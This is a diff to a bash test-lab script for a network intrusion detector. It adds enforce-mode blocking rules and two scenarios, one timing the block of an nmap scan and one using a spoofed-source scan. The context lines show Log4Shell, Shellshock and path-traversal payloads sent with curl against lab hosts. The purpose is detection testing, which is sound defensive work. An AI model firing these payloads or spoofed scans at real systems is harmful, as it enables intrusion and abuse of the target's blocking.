@@ -13,6 +13,8 @@
 #   --scenarios A,B,...  which scenarios (default: all; --list shows them)
 #   --out DIR            where results go (default lab/out): anomalies.log, scenarios.tsv,
 #                        results.tsv, table.md, and the components' logs
+#   --enforce            blocking in enforce mode (default: the aggregator's dry run); the
+#                        scan-blocked and spoofed-scan scenarios measure it
 #   --list               print the scenarios and exit
 #
 # NETWATCH_CMD overrides how Netwatch is started (default: the repository's ./netwatch
@@ -37,14 +39,17 @@ SCENARIOS=(
     "ssh-guess|brute_force|10.244.1.66|ssh with sshpass, 20 passwords against sshd (4 at once, one try per connection)"
     "exploit|signature|10.244.1.66|curl with Log4Shell, Shellshock and traversal strings"
     "beacon|beaconing|10.244.1.66|curl to an external address every 2 s for 40 s"
+    "scan-blocked|port_scan|10.244.1.66|with --enforce: nmap -sT after a normal request; time until the scanner's traffic is dropped"
+    "spoofed-scan|port_scan|10.244.2.53|with --enforce: nmap -sS spoofing the cluster DNS pod's address; nothing may be blocked"
 )
 
-BENIGN=600 ONLY=all OUT=$LAB_DIR/out
+BENIGN=600 ONLY=all OUT=$LAB_DIR/out ENFORCE=0
 while (($#)); do
     case $1 in
         --benign) BENIGN=$2; shift 2 ;;
         --scenarios) ONLY=$2; shift 2 ;;
         --out) OUT=$2; shift 2 ;;
+        --enforce) ENFORCE=1; shift ;;
         --list) for s in "${SCENARIOS[@]}"; do IFS='|' read -r n t _ d <<<"$s"; printf '%-13s %-45s %s\n' "$n" "$t" "$d"; done; exit 0 ;;
         -h|--help) sed -n '2,22p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
         *) echo "lab: unknown option '$1' (see --help)" >&2; exit 2 ;;
@@ -138,7 +143,23 @@ nw_wait_listen ext tcp 8080
 
 say "starting the aggregator and one agent per node"
 AGG=$LAB_NODE1_UNDERLAY:50051
-nw_bg node1 "$OUT/aggregator.log" "${NW[@]}" aggregator --listen "$AGG" --metrics "$LAB_NODE1_UNDERLAY:9092"
+# Blocking: scans of medium severity and up, 20 s drops; the cluster DNS pod is protected.
+cat >"$WORK/response.yaml" <<EOF
+rules:
+  - name: lab-scanners
+    types: [port_scan, ip_sweep]
+    min_severity: medium
+    action: node_drop
+    ttl: 20s
+EOF
+cat >"$WORK/aggregator.yaml" <<EOF
+response:
+  mode: $( ((ENFORCE)) && echo enforce || echo dry-run )
+  file: $WORK/response.yaml
+  protected_cidrs: [10.244.2.53/32]
+EOF
+nw_bg node1 "$OUT/aggregator.log" "${NW[@]}" aggregator --config "$WORK/aggregator.yaml" --listen "$AGG" \
+    --metrics "$LAB_NODE1_UNDERLAY:9092"
 nw_wait_listen node1 tcp 50051 60
 nw_bg node1 "$OUT/agent-node1.log" "${NW[@]}" agent --node node1 -i 'cali.*' --aggregator "$AGG" \
     --metrics 127.0.0.1:9091
@@ -176,6 +197,13 @@ BENIGN_END=$(now_ms)
 printf 'benign\t\t\t%s\t%s\n' "$BENIGN_START" "$BENIGN_END" >>"$OUT/scenarios.tsv"
 
 A=n1-attacker
+# probe NS URL OUT: one request every 0.1 s, "<ms> ok|fail" per line, until stopped.
+probe() {
+    nw_bg "$1" "$3" bash -c 'while :; do
+        if curl -s -o /dev/null --max-time 0.3 "$0"; then echo "$(date +%s%3N) ok"; else echo "$(date +%s%3N) fail"; fi
+        sleep 0.1; done' "$2"
+    PROBE_PID=$NW_LAST_PID
+}
 attack() {
     case $1 in
         syn-scan) nw_exec $A nmap -sS -Pn -n -T4 -p 1-1000 10.244.2.20 ;;
@@ -213,6 +241,24 @@ attack() {
             nw_exec $A curl -s -o /dev/null -A '${jndi:ldap://198.51.100.10:1389/a}' http://10.244.2.20/
             nw_exec $A curl -s -o /dev/null -A '() { :; }; /bin/bash -c "id"' http://10.244.2.20/cgi-bin/status
             nw_exec $A curl -s -o /dev/null --path-as-is 'http://10.244.2.20/../../../../etc/passwd' ;;
+        scan-blocked)
+            ((ENFORCE)) || { say "  scan-blocked needs --enforce"; return 1; }
+            nw_exec $A curl -s -o /dev/null http://10.244.2.20/
+            probe $A http://10.244.2.20/ "$OUT/probe-attacker.log"; local attacker=$PROBE_PID
+            probe n1-client http://10.244.2.20/ "$OUT/probe-benign.log"; local benign=$PROBE_PID
+            sleep 1
+            now_ms >"$OUT/scan-blocked.start"
+            nw_exec $A nmap -sT -Pn -n -T4 -p 1-1000 10.244.1.20 || true
+            # Wait out the block's 20 s TTL, and a little more: the drop must lift by itself.
+            sleep 26
+            nw_stop "$attacker"; nw_stop "$benign" ;;
+        spoofed-scan)
+            ((ENFORCE)) || { say "  spoofed-scan needs --enforce"; return 1; }
+            probe n1-client http://10.244.2.20/ "$OUT/probe-spoof-benign.log"; local benign=$PROBE_PID
+            nw_exec $A nmap -sS -Pn -n -T4 -S 10.244.2.53 -e eth0 -p 1-300 10.244.2.20 || true
+            sleep 3
+            nw_exec n1-client dig +short +time=1 +tries=2 @10.244.2.53 web.lab.test >"$OUT/spoofed-dns.txt" || true
+            nw_stop "$benign" ;;
         beacon)
             local i
             for ((i = 0; i < 20; i++)); do
@@ -234,3 +280,6 @@ for s in "${SCENARIOS[@]}"; do
 done
 
 "$PY" "$LAB_DIR/report.py" "$OUT"
+if ((ENFORCE)) && [[ -f $OUT/scan-blocked.start ]]; then
+    "$PY" "$LAB_DIR/blocking.py" "$OUT"
+fi
